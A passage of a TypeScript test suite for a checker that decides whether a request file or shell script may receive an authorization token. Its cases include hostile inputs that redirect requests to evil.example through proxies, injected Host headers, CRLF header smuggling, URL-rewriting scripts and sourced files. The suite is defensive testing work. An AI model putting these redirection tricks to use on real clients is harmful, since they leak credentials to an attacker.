import assert from 'node:assert/strict';
import { brunoFormat } from '../../../../src/core/formats/bruno/brunoFormat';
import { httpFormat } from '../../../../src/core/formats/httpFormat';
import { hurlFormat } from '../../../../src/core/formats/hurl/hurlFormat';
import { markdownFormat } from '../../../../src/core/formats/markdownFormat';
import { openCollectionFormat } from '../../../../src/core/formats/openCollectionFormat';
import type { RequestFormat } from '../../../../src/core/formats/requestFormat';
import { cmdFormat, posixFormat, powershellFormat } from '../../../../src/core/formats/shellFormat';
import { createInsertionChecker } from '../../../../src/core/requestAnalysis/insertionRules';
import { exampleFor } from '../../../support/example';
import { profileWith } from '../../../support/fakes';
import { edited, everyLine } from '../../../support/formatCases';

const acme = profileWith();
const prod = profileWith({ id: 'p2', name: 'prod', origin: 'https://v1.api.eu.janrain.com' });
const at = `${acme.origin}/${acme.customerId}`;
const http = httpFormat('restClient');

/** The result for the requests of a text: how many are changed, and why others are not. */
function outcome(
  format: RequestFormat,
  text: string,
  { isLiteral = false, includeUnconfirmed = false, cursors = everyLine(text) } = {},
): string {
  const checkInsertion = createInsertionChecker(isLiteral ? [acme] : [acme, prod], isLiteral);
  const { plan, text: after } = edited(format, text, cursors, { checkInsertion, includeUnconfirmed });
  if (plan.changed === 0) assert.equal(after, text);
  return [
    ...(plan.changed > 0 ? [`changed ${plan.changed}`] : []),
    ...plan.unconfirmed.map(({ line, check }) =>
      check.kind === 'unknown'
        ? `unknown ${line}: ${check.reason}`
        : `stray ${line}: ${check.customerId ?? check.host}`,
    ),
    ...plan.refused
      .filter(({ kind }) => kind === 'login' || kind === 'elsewhere')
      .map(({ kind, line }) => `${kind} ${line}`),
  ].join(', ');
}

/** For the token itself: nothing but the rule for simple scripts (simpleScripts.test.ts) asks about it. */
const changedIfSimple =
  /^(?:changed [12]|(?:(?:, )?unknown \d+: only the shell knows what \S+ in its script does)+)$/;

describe('who may get the header', () => {
  const other = '9zy87x65-4321-0987-w6vu-5t432s10rqp9';
  const urls: readonly [title: string, url: string, expected: RegExp][] = [
    ['the profile', `${at}/config/clients`, /^changed 1$/],
    ['another one of the profiles', `${prod.origin}/${prod.customerId}/config/clients`, /^changed 1$/],
    ['another host', 'https://api.github.com/user', /^stray \d: https:\/\/api\.github\.com$/],
    ['another host with a path like ours', `https://h.example/${acme.customerId}/config/clients`, /^stray/],
    ['another customer', `${acme.origin}/${other}/config/clients`, new RegExp(`^stray \\d: ${other}$`)],
    ...[
      `${acme.origin}/%39zy87x65-4321-0987-w6vu-5t432s10rqp9/config/clients`,
      `${acme.origin}//${other}/config/clients`,
      `${acme.origin}/other/config/clients`,
    ].map((url): [string, string, RegExp] => [
      'a customer in an unusual way',
      url,
      /^unknown \d: its path names a customer in an unusual way$/,
    ]),
    ['no customer', `${acme.origin}/config/clients`, /^changed 1$/],
    ['a login endpoint', `${at}/login/token`, /^login \d$/],
    ['a login endpoint of somebody else', 'https://github.com/login/oauth/access_token', /^stray/],
  ];
  const formats: readonly [title: string, format: RequestFormat, write: (url: string) => string][] = [
    ['a request file', http, url => `GET ${url}\n`],
    ['curl in a request file', http, url => `curl ${url}\n`],
    ['a fence', markdownFormat('restClient'), url => `\`\`\`http\nGET ${url}\n\`\`\`\n`],
    ['a fence of a shell', markdownFormat('restClient'), url => `\`\`\`sh\ncurl ${url}\n\`\`\`\n`],
    ['a shell script', posixFormat, url => `curl -s "${url}"\n`],
    ['an option for it', posixFormat, url => `curl --url ${url}\n`],
    ['PowerShell', powershellFormat, url => `Invoke-RestMethod -Uri "${url}"\n`],
    ['PowerShell without the parameter', powershellFormat, url => `irm ${url}\n`],
    ['curl in PowerShell', powershellFormat, url => `curl.exe ${url}\n`],
    ['a batch file', cmdFormat, url => `curl ${url}\n`],
    ['Bruno', brunoFormat, url => `get {\n  url: ${url}\n}\n`],
    [
      'OpenCollection',
      openCollectionFormat,
      url => `info:\n  type: http\nhttp:\n  method: GET\n  url: ${url}\n`,
    ],
    ['Hurl', hurlFormat, url => `GET ${url}\n`],
  ];
  for (const [where, format, write] of formats) {
    for (const [title, url, expected] of urls) {
      it(`${title}, in ${where}`, () => {
        assert.match(outcome(format, write(url)), expected);
      });
    }
  }

  const variables: readonly [title: string, format: RequestFormat, text: string, expected: RegExp][] = [
    ['a path of ours', http, 'GET {{origin}}/{{customer}}/config/clients\n', /^changed 1$/],
    ['a path of ours', posixFormat, 'curl "$ORIGIN/${ID}/config/clients/$1"\n', /^changed 1$/],
    ['a path of ours', powershellFormat, 'irm "$base/$env:ID/config/clients"\n', /^changed 1$/],
    ['a path of ours', cmdFormat, 'curl %ORIGIN%/%ID%/config/clients\n', /^changed 1$/],
    ...['!O!/!C!', '%~1/%~2', '%%a/%%~nxb', '%O:a=b%/%C:~1,2%', `${acme.origin}/%~1`].map(
      (base): [string, RequestFormat, string, RegExp] => [
        'a path of ours',
        cmdFormat,
        `curl "${base}/config/clients"\n`,
        /^changed 1$/,
      ],
    ),
    ...['!URL!', '%%u', '"%~1"', '%URL:a=b%'].map((word): [string, RequestFormat, string, RegExp] => [
      'nothing of ours',
      cmdFormat,
      `curl ${word}\n`,
      /^unknown 0: the shell may make several words of [%!]/,
    ]),
    ['a path of ours', hurlFormat, 'GET {{origin}}/{{customer}}/config/clients\n', /^changed 1$/],
    ['nothing of ours', http, 'GET {{host}}/x\n', /^unknown 0: only the REST client knows \{\{host\}\}$/],
    ['nothing of ours', posixFormat, 'curl "$URL"\n', /^unknown 0: .*\$URL/],
    ['nothing of ours', posixFormat, 'curl https://$HOST/config/clients\n', /^unknown/],
    ['nothing of ours', powershellFormat, 'irm $url\n', /^unknown/],
    ['nothing of ours', cmdFormat, 'curl %URL%\n', /^unknown/],
    ['nothing of ours', brunoFormat, 'get {\n  url: {{base}}/x\n}\n', /^unknown/],
    ['the file’s value', http, `@h = ${acme.origin}\nGET {{h}}/x\n`, /^changed 1$/],
    ['the file’s value of another', http, '@h = https://x.example\nGET {{h}}/x\n', /^stray 1/],
    ['a login endpoint', http, 'POST {{origin}}/{{customer}}/login/token\n', /^login 0$/],
    ['a proxy', http, `curl ${at}/x --proxy http://p\n`, /^unknown 0: it has --proxy$/],
    ['a proxy', posixFormat, `curl ${acme.origin}/x -x http://p\n`, /^unknown 0: it has -x$/],
    ['a file that may hold the header too', posixFormat, 'curl -K request.txt\n', /^elsewhere 0$/],
  ];
  for (const [title, format, text, expected] of variables) {
    it(`${title}: ${text.trim()}`, () => {
      assert.match(outcome(format, text), expected);
    });
  }

  describe('when something leads a request elsewhere', () => {
    const evil = 'https://evil.example';
    const get = `GET ${at}/config/clients`;
    const doubted: readonly [title: string, format: RequestFormat, text: string][] = [
      ['a script', http, `{{@request\nrequest.url = '${evil}';\n}}\n${get}\n`],
      ['a proxy', http, `# @proxy http://evil.example\n# @noRejectUnauthorized\n${get}\n`],
      ['another file', http, `# @import ./x.http\n${get}\n`],
      ['a backslash', http, `GET ${acme.origin}\\@evil.example/${acme.customerId}/config/clients\n`],
      ['a backslash', hurlFormat, `GET ${acme.origin}\\@evil.example/${acme.customerId}/config/clients\n`],
      [
        'a backslash',
        posixFormat,
        `curl "${acme.origin}\\@evil.example/${acme.customerId}/config/clients"\n`,
      ],
      ['a tab in a command', http, `curl\t-o ${evil} ${at}/config/clients\n`],
      ['quotes in front of an option', http, `curl -s ''-o ${evil} ${at}/config/clients\n`],
      ['a header that only REST Client reads', http, `${get}\n'x: 1\nHost: evil.example\n`],
      ['a header with a variable for its name', http, `@h = Host\n${get}\n{{h}}: evil.example\n`],
      ['a header after another end of line', http, `${get}\nX: a\u2028Host: evil.example\n`],
    ];
    for (const [title, format, text] of doubted) {
      it(`neither the reference nor the token: ${title}: ${text.trim()}`, () => {
        for (const isLiteral of [false, true]) assert.match(outcome(format, text, { isLiteral }), /^unknown/);
      });
    }

    it('not the second request of a block, which REST Client sends as the body of the first', () => {
      const below = (between: string) => `POST ${evil}\n\n{}\n${between}\n${get}\n`;
      for (const [format, text] of [
        [http, below('')],
        [http, below(' ###')],
        [markdownFormat('restClient'), `\`\`\`http\n${below('###')}\`\`\`\n`],
      ] as const) {
        const cursors = [text.split('\n').indexOf(get)];
        assert.match(outcome(format, text, { cursors }), /^unknown \d+: REST Client sends another request/);
      }
      const text = below('');
      assert.equal(
        outcome(httpFormat('httpYac'), text, { cursors: [text.split('\n').indexOf(get)] }),
        'changed 1',
      );
    });

    it('the reference, when a value is known to the client alone, and not the token', () => {
      for (const header of ['If-Match: {{etag}}', 'X-A: {{$dotenv A}}', 'X-A: {{a.response.body.x}}']) {
        const text = `${get}\n${header}\n`;
        assert.equal(outcome(http, text), 'changed 1', header);
        assert.match(outcome(http, text, { isLiteral: true }), /^unknown/, header);
      }
      const other = `GET ${acme.origin}/a\nAuthorization: Bearer {{HOSTED_LOGIN_TOKEN}}\n`;
      assert.equal(outcome(http, other), 'changed 1', 'a path that does not say whose it is');
    });
  });

  describe('in other files than those of REST clients', () => {
    const url = `${at}/config/clients`;
    const evil = 'https://evil.example';
    const hurl = (rest: string) => `GET ${url}\n${rest}\nHTTP 200\n`;
    const bru = (rest: string) => `get {\n  url: ${url}\n}\n\n${rest}\n`;
    const yaml = (rest: string) => `info:\n  type: http\nhttp:\n  method: GET\n  url: ${url}\n${rest}\n`;
    const headers = (name: string, value: string, more = '') =>
      yaml(`  headers:\n    - name: ${name}\n      value: ${value}${more}`);
    /** A script with `E` for another host, and `R` for a request to `$BASE`. */
    const scriptWith = (script: string) =>
      `${script.replace(/\bE\b/, evil).replace(/\bR\b/, `curl "$BASE/${acme.customerId}/config/clients"`)}\n`;
    type Row = [title: string, format: RequestFormat, text: string, reference: RegExp, token: RegExp];
    const rows: readonly Row[] = [
      ...[
        'proxy: evil.example:8080',
        'connect-to: a:443:evil.example:443',
        'resolve: a:443:6.6.6.6',
        'unix-socket: /tmp/x',
        'location-trusted: true',
        'insecure: true',
      ].map((option): Row => [
        'an option',
        hurlFormat,
        hurl(`[Options]\n${option}`),
        /^unknown 0: it has/,
        /^unknown/,
      ]),
      [
        'options that change nothing',
        hurlFormat,
        hurl('[Options]\nlocation: true\nretry: 2'),
        /^changed 1$/,
        /^changed 1$/,
      ],
      ['a name with escapes', hurlFormat, hurl('Ho\\u{73}t: evil.example'), /^unknown/, /^unknown/],
      ...[evil, acme.origin].flatMap((origin): Row[] => {
        const path = `${acme.customerId}/config/clients`;
        const isOurs = origin !== evil;
        return [
          [
            'a variable of its options',
            hurlFormat,
            `GET {{base}}/${path}\n[Options]\nvariable: base=${origin}\nHTTP 200\n`,
            isOurs ? /^changed 1$/ : /^stray \d: https:\/\/evil/,
            isOurs ? /^unknown \d: \{\{base\}\} may have another value when the request is sent$/ : /^stray/,
          ],
          [
            'a variable of the options above',
            hurlFormat,
            `GET ${url}\n[Options]\nvariable: a=${origin}\nvariable: base="{{ a }}"\n\nGET {{base}}/${path}\n`,
            isOurs ? /^changed 2$/ : /^changed 1, stray \d: https:\/\/evil/,
            isOurs ? /^changed 1, unknown/ : /^changed 1, stray/,
          ],
          [
            'a variable of the script',
            posixFormat,
            `BASE="${origin}"\ncurl "$BASE/${path}"\n`,
            isOurs ? /^changed 1$/ : /^stray \d: https:\/\/evil/,
            isOurs
              ? /^unknown \d: \{\{\$BASE\}\} may have another value when the request is sent$/
              : /^stray/,
          ],
          [
            'a variable of the file',
            brunoFormat,
            `get {\n  url: {{base}}/${path}\n}\n\nvars:pre-request {\n  ${isOurs ? '' : '@'}base: ${origin}\n  ~base: x\n}\n`,
            isOurs ? /^changed 1$/ : /^stray \d: https:\/\/evil/,
            isOurs ? /^unknown \d+: its collection/ : /^stray/,
          ],
          [
            'a variable of the file',
            openCollectionFormat,
            `info:\n  type: http\nhttp:\n  url: "{{base}}/${path}"\nruntime:\n  variables:\n    - name: base\n      value: ${origin}\n`,
            isOurs ? /^changed 1$/ : /^stray \d: https:\/\/evil/,
            isOurs ? /^unknown \d+: its collection/ : /^stray/,
          ],
        ];
      }),
      ...[
        ['a value in the path of a fixed host', posixFormat, `ID=abc\ncurl "${url}/$ID"\n`] as const,
        [
          'a value in the path of a fixed host',
          hurlFormat,
          `GET ${url}/{{id}}\n[Options]\nvariable: id=abc\nHTTP 200\n`,
        ] as const,
      ].map(([title, format, text]): Row => [title, format, text, /^changed 1$/, /^changed 1$/]),
      [
        'a Host header with a variable of the options, which a capture may replace',
        hurlFormat,
        `GET ${url}\n[Options]\nvariable: h=${new URL(acme.origin).host}\nHTTP 200\n[Captures]\nh: jsonpath "$.x"\n\nGET ${url}\nHost: {{h}}\n`,
        /^changed 2$/,
        /^changed 1, unknown \d: \{\{h\}\} may have another value when the request is sent$/,
      ],
      ...[
        'set -euo pipefail\n# where to\n\nA="$HOME/x"\nBASE=E # staging\nR',
        "#!/bin/sh\nexport BASE='E'\r\nR",
      ].map((script): Row => [
        'a variable that a script sets once at its beginning',
        posixFormat,
        scriptWith(script),
        /^stray \d: https:\/\/evil/,
        /^stray/,
      ]),
      [
        'a variable that a comment sets',
        posixFormat,
        scriptWith('# BASE=E ./run.sh\nR'),
        /^changed 1$/,
        /^unknown \d+: only the shell knows \$BASE$/,
      ],
      ...[
        'echo "usage: BASE=E $0"\nR',
        'BASE=E ./run.sh\nR',
        'BASE=E\nread -r BASE\nR',
        'BASE=E\nfor BASE in $HOSTS; do R; done',
        'BASE=E\nBASE=$1\nR',
        'BASE=E\nprintf -v BASE %s "$1"\nR',
        'if [ "$1" = dev ]; then\n  BASE=E\nfi\nR',
        "cat > .env <<'X'\nBASE=E\nX\nR",
        "usage='\nBASE=E\n'\nR",
        'use() {\n  local BASE=E\n}\nR',
        'R\nBASE=E',
        'BASE=E"$1"\nR',
        'BASE=E ./run.sh && R',
      ].map((script): Row => [
        'a variable that a script may set to something else',
        posixFormat,
        scriptWith(script),
        /^unknown \d+: its file may send it to https:\/\/evil\.example$/,
        /^unknown \d+: only the shell knows \$BASE$/,
      ]),
      ...[
        'BASE=E\n[ -f .env ] && . ./.env\nR',
        'BASE=E\nsource .env\nR',
        'BASE=E\neval "$(./settings)"\nR',
      ].map((script): Row => [
        'a variable that another script may set to something else',
        posixFormat,
        scriptWith(script),
        /^unknown \d+: its file may send it to https:\/\/evil\.example$/,
        /^unknown \d+: its script includes another one$/,
      ]),
      ...(
        [
          [
            posixFormat,
            ...['. ./settings.sh', 'set -e; source ../.env', '[ -f .env ] && . ./.env'],
            ...[
              'if ! source .env; then exit; fi',
              ...['2>/dev/null . ./x', 'command -- . ./x', '"source" x', "trap '. ./x' USR1"],
              'eval "$(./settings)"',
              '[ -s "$D/nvm.sh" ] && \\. "$D/nvm.sh"',
            ],
            ...[
              'source <(./settings)',
              '. <(env)',
              'FOO=1 . ./x',
              'A="b c" B=\'d\' source x',
              'A=$(b c) . ./x',
            ],
            ...['case $1 in a) . ./x;; esac', 'x=`. ./settings; env`', 'source /dev/stdin <<< "$x"'],
          ],
          [
            powershellFormat,
            ...['."$dir/a.ps1"', ".'./a.ps1'", '.(Join-Path a b)'],
            ...['. ./settings.ps1', 'Import-Module ./settings', 'using module ./a.psm1', '$s | iex'],
            ...['#Requires -Modules A', '#requires -Version 7 -Module A'],
            ...['$null = . ./a.ps1', 'a && . ./x', 'a || . ./x', '& iex $x', '$x=iex y', 'return . ./x'],
            // Their `$env:` is that of the session.
            ...[
              '& ./settings.ps1',
              '.\\settings.ps1 -A b',
              '$x = C:\\b\\settings.ps1',
              '& "$dir\\my settings.ps1"',
            ],
            ...['& $settings', '& (Join-Path $PSScriptRoot settings)', 'if ($a) { & ./settings.ps1 }'],
          ],
          [
            cmdFormat,
            ...['@call settings.bat', 'if exist settings.bat call settings.bat', 'a || call "b c.bat"'],
            ...[
              'if exist x (call x) else call y',
              'if exist x (cd .) else @call y',
              'for %%i in (a b) do call %%i',
            ],
            ...[
              '@if "%1"=="" @call a',
              'if not defined A if exist b CALL b',
              'for %%i in (*.bat) do @call "%%i"',
            ],
          ],
        ] as const
      ).flatMap(([format, ...lines]) =>
        lines.map((line): Row => [
          'another script, which may define all that a script may',
          format,
          `${line}\ncurl ${url}\n`,
          /^changed 1$/,
          /^unknown 1: its script includes another one$/,
        ]),
      ),
      ...(
        [
          [
            posixFormat,
            ...['find . -name a', 'docker build . -t a', 'echo "first: source .env"', './settings.sh'],
            ...['A=1 docker build . -t a', 'cp a . && cd ..', 'open-source a', 'echo 1. 2', 'git -C . log'],
          ],
          [
            powershellFormat,
            ...['cd ..', '& curl.exe -V', '& "C:\\b c\\a.exe" -d e', '$file = "settings.ps1"', '$a = $b.c'],
            ...['Get-Content ./settings.ps1', 'pwsh -File settings.ps1', '# a: settings.ps1', '$iex = 1'],
            ...['#Requires -Version 7', '#Requires -RunAsAdministrator'],
          ],
          [
            cmdFormat,
            ...['call :settings', 'if exist a call :b', 'echo Please call us', 'rem call a', 'recall a'],
          ],
        ] as const
      ).flatMap(([format, ...lines]) =>
        lines.map((line): Row => [
          'what includes no script',
          format,
          `${line}\ncurl ${url}\n`,
          /^changed 1$/,
          changedIfSimple,
        ]),
      ),
      ...(
        [
          [
            posixFormat,
            'export',
            ...[
              'p=http_proxy; export $p=E',
              'export A\\LL_PROXY=E',
              'export $(cat .env)',
              'export "$1"',
              'export "${x}_proxy=E"',
            ],
            ...[
              'export A=b `cat .env`',
              "export 'http'_proxy=E",
              "export $'http\\x5fproxy=E'",
              'set -a && export "$(./x)"',
            ],
            ...[
              'for i in a; do export "$i=E"; done',
              'A=1 export $p=E',
              `export A="${'b '.repeat(2_500)}" $p=E`,
            ],
          ],
          [posixFormat, 'declare', 'declare -x $p=E', 'declare -gx "$p"=E', 'declare -n r=$1; r=E'],
          [posixFormat, 'typeset', 'typeset -x "${p}"=E'],
          [posixFormat, 'local', 'f() { local -x $p=E; }'],
          [posixFormat, 'readonly', 'readonly "$p=E"'],
          [
            posixFormat,
            'read',
            'read -r -p "A b: " "$name"',
            'while read -r $p; do R; done',
            'echo E | { read $p; }',
          ],
          [posixFormat, 'printf', 'printf -v "$p" %s E', 'printf -v"$p" E'],
          [
            powershellFormat,
            'Set-Content',
            'gc .env | % { $k, $v = $_ -split "="; Set-Content env:\\$k $v }',
            "Set-Content -Path ('env:' + $k) -Value $v",
          ],
          [
            powershellFormat,
            'Set-Item',
            'Set-Item "env:http$s" $v',
            'Set-Item -Path "env:$($_.Name)" $v',
            'Set-Item `\n  env:$k $v',
          ],
          [powershellFormat, 'New-Item', 'New-Item -Path Env: -Name $k -Value $v'],
          [powershellFormat, 'cd', 'cd env:\\'],
          [
            powershellFormat,
            'SetEnvironmentVariable',
            'gc .env | % { $k, $v = $_ -split "="; [Environment]::SetEnvironmentVariable($k, $v) }',
            '[Environment]::SetEnvironmentVariable( "${p}_proxy", $v )',
            '[Environment]::SetEnvironmentVariable(\n  "https_proxy", $v)',
          ],
          [
            cmdFormat,
            'set',
            'for /f "tokens=1,2 delims==" %%a in (.env) do set %%a=%%b',
            'for /f "delims=" %%a in (.env) do @if not "%%a"=="" set "%%a"',
            'if exist .env (for /f %%a in (.env) do (set "%%a"))',
            'set "%~1=%~2"',
            'set !k!=%v%',
            'set /p "%1=Value: "',
          ],
        ] as const
      ).flatMap(([format, command, ...lines]) =>
        lines.map((line): Row => [
          'a variable whose name only the shell knows',
          format,
          `${line}\ncurl ${url}\n`,
          /^changed 1$/,
          new RegExp(`^unknown \\d+: only the shell knows what its ${command} sets$`),
        ]),
      ),
      ...(
        [
          [
            powershellFormat,
            ...['Set-Item env:A $b', 'Set-Content "$env:TEMP\\a" $b', 'cd $env:TEMP', 'cd "${env:TEMP}"'],
            ...['[Environment]::SetEnvironmentVariable( "A", $b )', 'Write-Host "env: $a"', '# cd env:'],
            ...['Get-ChildItem env: | sort Name', '(Get-Item "env:$a").Value', 'Remove-Item "env:$a"'],
          ],
          [
            cmdFormat,
            ...[
              'set A=%B%',
              'set "a[%i%]=%%b"',
              'set /a n=%n%+1',
              'setlocal',
              'echo set %a%',
              'rem set %a%=b',
            ],
          ],
        ] as const
      ).flatMap(([format, ...lines]) =>
        lines.map((line): Row => [
          'variables of known names',
          format,
          `${line}\ncurl ${url}\n`,
          /^changed 1$/,
          changedIfSimple,
        ]),
      ),
      ...[
        ...[
          'export A=$B C="$d e" F',
          'export A="$b$c"',
          'export -n A',
          'export -p',
          'declare -a a=($b)',
          'local a=$1 b',
        ],
        ...[
          'declare -A m=([$a]=b)',
          'declare -f a',
          'typeset -i x=$((y + 1))',
          'read -r a b',
          'read -rp "$prompt" a',
          'read -n 1 a <<< "$b"',
        ],
        ...[
          'while IFS= read -r line; do echo "$line"; done < "$1"',
          'printf "%s" "$a"',
          'printf -v a %s "$b"',
          'echo "we export $all"',
        ],
        ...['# export $a', 'export a[$b]=c', 'docker build --label export $a'],
      ].map((line): Row => [
        'variables with plain names',
        posixFormat,
        `${line}\ncurl ${url}\n`,
        /^changed 1$/,
        changedIfSimple,
      ]),
      [
        'a value that is longer than what is read of a URL',
        posixFormat,
        `BASE=${evil}/${'a'.repeat(1_100)}\ncurl "$BASE/${acme.customerId}/config/clients"\n`,
        /^stray 1: https:\/\/evil/,
        /^stray/,
      ],
      [
        'variables that never end',
        brunoFormat,
        `get {\n  url: {{a}}/${acme.customerId}/config/clients\n}\n\nvars:pre-request {\n  a: {{b}}{{b}}\n  b: {{a}}{{a}}\n}\n`,
        /^changed 1$/,
        /^unknown/,
      ],
      ...['X\\#a: 1', 'X{{ a }}: 1', 'X{{a:b}}-c: 1', '{{ a }}{{b}}: 1', 'X\\:: 1', 'a$@[0]: 1'].map(
        (line): Row => [
          'a Host header below a header with an unusual name',
          hurlFormat,
          hurl(`${line}\nHost: evil.example`),
          /^stray 0: https:\/\/evil\.example$/,
          /^stray/,
        ],
      ),
      ...['X\\#a: 1', 'X{{ a }}: 1'].map((line): Row => [
        'a proxy below a header with an unusual name',
        hurlFormat,
        hurl(`${line}\n[Options]\nproxy: http://evil.example`),
        /^unknown 0: it has proxy$/,
        /^unknown/,
      ]),
      [
        'a line that is not known',
        hurlFormat,
        hurl('a,b: 1\nHost: evil.example'),
        /^unknown 0: Hosted Login cannot read its line 2$/,
        /^unknown/,
      ],
      ...[
        '{"a": 1}',
        '[1]',
        '[',
        '<a/>',
        '```\na\n```',
        '`a`',
        '"a"',
        'base64,YQ==;',
        'file,a.json;',
        '1',
        'true',
      ].map((body): Row => ['a body', hurlFormat, hurl(body), /^changed 1$/, /^changed 1$/]),
      ...[
        'xn--a.evil.example',
        '1.2.3.4.5',
        'good.example%00.evil.example',
        'good.example|.evil.example',
      ].flatMap((host): Row[] =>
        [
          [posixFormat, `curl 'https://${host}/${acme.customerId}/config/clients'\n`] as const,
          [powershellFormat, `irm 'https://${host}/${acme.customerId}/config/clients'\n`] as const,
        ].map(([format, text]) => [
          'a host that is none by the standard',
          format,
          text,
          /^unknown 0: clients read its URL differently$/,
          /^unknown/,
        ]),
      ),
      ...["-A $'x\\r\\nHost: e'", "-e $'x\\nHost: e'", "-b 'a=b\nHost: e'", "-X $'GET\\r\\nHost: e'"].map(
        (option): Row => [
          'a line break that curl writes into the head',
          posixFormat,
          `curl ${option} ${url}\n`,
          /^unknown \d: it has -\w …$/,
          /^unknown/,
        ],
      ),
      ['a Host header', brunoFormat, bru('headers {\n  Host: evil.example\n}'), /^stray/, /^stray/],
      [
        'a Host header that is off',
        brunoFormat,
        bru('headers {\n  ~Host: evil.example\n}'),
        /^changed 1$/,
        /^unknown \d+: its collection may add scripts, headers, variables or a proxy/,
      ],
      [
        'a script',
        brunoFormat,
        bru(`script:pre-request {\n  req.setUrl("${evil}/x")\n}`),
        /^unknown .*script/,
        /^unknown/,
      ],
      [
        'a script after the answer',
        brunoFormat,
        bru('script:post-response {\n  x()\n}'),
        /^changed 1$/,
        /^unknown \d+: its collection may add scripts, headers, variables or a proxy/,
      ],
      ['a Host header', openCollectionFormat, headers('Host', 'evil.example'), /^stray/, /^stray/],
      [
        'a Host header with escapes',
        openCollectionFormat,
        headers('"H\\u006fst"', 'evil.example'),
        /^stray/,
        /^stray/,
      ],
      [
        'a Host header that is off',
        openCollectionFormat,
        headers('Host', 'evil.example', '\n      disabled: true'),
        /^changed 1$/,
        /^unknown \d+: its collection may add scripts, headers, variables or a proxy/,
      ],
      [
        'headers on one line',
        openCollectionFormat,
        yaml('  headers: [{name: Host, value: evil.example}]'),
        /^unknown/,
        /^unknown/,
      ],
      ...['[]', '{} # none', ''].map((list): Row => [
        'no headers',
        openCollectionFormat,
        yaml(`  headers: ${list}`),
        /^changed 1$/,
        /^unknown \d+: its collection may add scripts, headers, variables or a proxy/,
      ]),
      [
        'other headers',
        openCollectionFormat,
        headers('Accept', 'application/json'),
        /^changed 1$/,
        /^unknown \d+: its collection may add scripts, headers, variables or a proxy/,
      ],
      [
        'a script',
        openCollectionFormat,
        yaml('runtime:\n  scripts:\n    - type: before-request\n      code: x()'),
        /^unknown .*script/,
        /^unknown/,
      ],
      [
        'scripts on one line',
        openCollectionFormat,
        yaml('runtime: {scripts: [{type: before-request}]}'),
        /^unknown .*script/,
        /^unknown/,
      ],
      [
        'a script after the answer',
        openCollectionFormat,
        yaml('runtime:\n  scripts:\n    - type: after-response\n      code: x()'),
        /^changed 1$/,
        /^unknown \d+: its collection may add scripts, headers, variables or a proxy/,
      ],
      [
        'a proxy',
        powershellFormat,
        `irm ${url} -Proxy http://evil.example:8080\n`,
        /^unknown 0: it has -Proxy/,
        /^unknown/,
      ],
      [
        'a certificate that nobody checks',
        powershellFormat,
        `irm ${url} -SkipCert\n`,
        /^unknown/,
        /^unknown/,
      ],
      [
        'a Host header',
        powershellFormat,
        `irm ${url} -Headers @{ Host = 'evil.example' }\n`,
        /^stray/,
        /^stray/,
      ],
      [
        'other parameters',
        powershellFormat,
        `irm ${url} -PassThru -Method Get -OutFile x -Headers @{ Accept = 'a' }\n`,
        /^changed 1$/,
        /^changed 1$/,
      ],
      ['braces', posixFormat, `curl ${url} -o {a,${evil}/x}\n`, /^unknown 0: the shell may make/, /^unknown/],
      ...['x{1..2}', 'x{"a",b}', "x{a.'b',c}", 'x{1.."3"}', 'x{a,$b}'].map((word): Row => [
        'braces with numbers or quotes',
        posixFormat,
        `curl ${url} -o ${word}\n`,
        /^unknown 0: the shell may make/,
        /^unknown/,
      ]),
      [
        'braces without a list',
        posixFormat,
        `curl ${url} -o x{a.b} -w x{,\n`,
        /^changed 1$/,
        changedIfSimple,
      ],
      [
        'braces that are quoted',
        posixFormat,
        `curl ${url} -d '{a,${evil}/x}' -w %{http_code}\n`,
        /^changed 1$/,
        changedIfSimple,
      ],
      ...['$X', '$(echo x)', '"$@"', '"${a[@]}"', '*', 'x$IFS"y"'].map((word): Row => [
        'words of the shell',
        posixFormat,
        `curl ${url} -o ${word}\n`,
        word.startsWith('"') ? /^$|^changed 1$/ : /^changed 1$/,
        /^unknown 0: the shell may make|^$/,
      ]),
      ['a variable in quotes', posixFormat, `curl "${url}?a=b" -o "$FILE"\n`, /^changed 1$/, /^changed 1$/],
      ['a query', posixFormat, `curl ${url}?a=b\n`, /^changed 1$/, /^changed 1$/],
      [
        'a variable',
        powershellFormat,
        `curl.exe ${url} -o $file\n`,
        /^changed 1$/,
        /^unknown 0: the shell may make/,
      ],
      ['an argument', cmdFormat, `curl -o %1 ${url}\n`, /^changed 1$/, /^unknown 0: the shell may make/],
      ...['"%X%"', '"%~1"', '%%i', '"%%i"', '"%1"'].map((word): Row => [
        'a value that is replaced before words are read',
        cmdFormat,
        `curl -o ${word} ${url}\n`,
        /^changed 1$/,
        /^unknown 0: the shell may make several words of %/,
      ]),
      ...['"!X!"', '"a!X!"', '"!X:a=b c!"', '"%my var%"', '"%X: = %"', '%%_', '%%#', '"%%$"'].map(
        (word): Row => [
          'a variable whose value may have quotes',
          cmdFormat,
          `curl -o ${word} ${url}\n`,
          /^changed 1$/,
          /^unknown 0: the shell may make several words of [%!]/,
        ],
      ),
      ...[
        ...['a,E', '"a","E"', "'a','E'", '$env:A,E', "''", "-o '' -o E", '--% E'],
        ...[`'" E "'`, `'{"title":" E "}'`, '"`" E `""'],
      ].map((word): Row => [
        'what PowerShell hands on as several words',
        powershellFormat,
        `curl.exe -o ${word} ${url}\n`,
        /^(?:unknown|elsewhere) 0/,
        /^(?:unknown|elsewhere) 0/,
      ]),
      ...[`'{\\"title\\": \\"a b\\"}'`, `'{"a": 1, "b": "c"}'`, '"a b"', '"a, b"'].map((word): Row => [
        'what PowerShell hands on as one word',
        powershellFormat,
        `curl.exe -d ${word} ${url}\n`,
        /^changed 1$/,
        /^changed 1$/,
      ]),
      ...['"$x"', '"$env:X"', '$env:X', '*'].map((word): Row => [
        'what may be several words for a program',
        powershellFormat,
        `curl.exe -o ${word} ${url}\n`,
        /^changed 1$/,
        /^unknown 0: the shell may make several words of /,
      ]),
      ...['x’ E ‘y', 'x’ E ’y'].map((words): Row => [
        'typographic quotes, which close quotes',
        powershellFormat,
        `curl.exe -o '${words}' ${url}\n`,
        /^unknown 0: /,
        /^unknown 0: /,
      ]),
      ...[
        `"x"${evil}/a`,
        `'x'${evil}/a`,
        `"x"'${evil}/a'`,
        `""${evil}/a`,
        `(x)${evil}/a`,
        `@{a=1}${evil}/a`,
      ].map((words): Row => [
        'a URL directly after a string or a bracket',
        powershellFormat,
        `curl.exe -o ${words} ${url}\n`,
        /^stray 0: https:\/\/evil/,
        /^stray/,
      ]),
      ...['"x"', "'x'", '(x)', '$(x)', '@{a=1}', '{x}', '@"\nx\n"@'].map((value): Row => [
        'a proxy directly after a string or a bracket',
        powershellFormat,
        `irm ${url} -Body ${value}-Proxy:http://evil\n`,
        /^unknown 0: it has -Proxy$/,
        /^unknown/,
      ]),
